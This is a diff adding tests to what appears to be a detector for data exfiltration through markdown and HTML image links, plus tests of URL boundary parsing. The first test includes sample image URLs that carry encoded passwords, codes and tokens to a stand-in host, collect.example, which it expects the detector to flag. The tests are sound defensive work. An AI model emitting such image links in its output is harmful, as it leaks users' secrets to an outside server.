@@ -84,3 +84,34 @@ test('no text makes the search grow faster than the text', () => {
     [],
   );
 });
+
+test('encoded data in the name of a picture and announced values are found, pictures for other screens and searches are not', () => {
+  const kinds = (url: string) => findLinkExfiltration(`![x](${url})`, null).map(({ kind }) => kind);
+  const data = Buffer.from('the door code is 4711').toString('base64url');
+  for (const url of [
+    `https://collect.example/i/${data}.png`,
+    `https://collect.example/${Buffer.from('password: swordfish-and-chips').toString('hex')}`,
+    'https://collect.example/c?q=password%3A+swordfish',
+    'https://collect.example/page#user%3Dgrace%20token%3Dabc123',
+  ])
+    assert.deepEqual(kinds(url), ['LINK_EXFILTRATION'], url);
+  for (const url of [
+    'https://example.net/static/hero@2x.webp',
+    'https://example.org/search?q=running+shoes',
+    'https://maps.example.net/?q=52.5200,13.4050',
+    'https://example.org/i/9f86d081884c7d659a2feaa0c55ad015.png',
+    'https://example.org/reset?token=4f9c2a7be1',
+  ])
+    assert.deepEqual(kinds(url), [], url);
+});
+
+test('an address ends before the quotation mark that closes its attribute, and keeps its own brackets', () => {
+  const places = (text: string) => linksIn(text).map(({ start, end }) => text.slice(start, end));
+  assert.deepEqual(places(`<img src="https://a.example/x" alt="y">`), ['https://a.example/x']);
+  assert.deepEqual(places(`<img src='https://a.example/x?a=1&amp;b=2'>`), [
+    'https://a.example/x?a=1&amp;b=2',
+  ]);
+  assert.deepEqual(places('<img src=https://a.example/x>'), ['https://a.example/x']);
+  assert.deepEqual(places('![a](https://a.example/b_(c)) d'), ['https://a.example/b_(c)']);
+  assert.deepEqual(places('![a](https://a.example/b) (d)'), ['https://a.example/b']);
+});
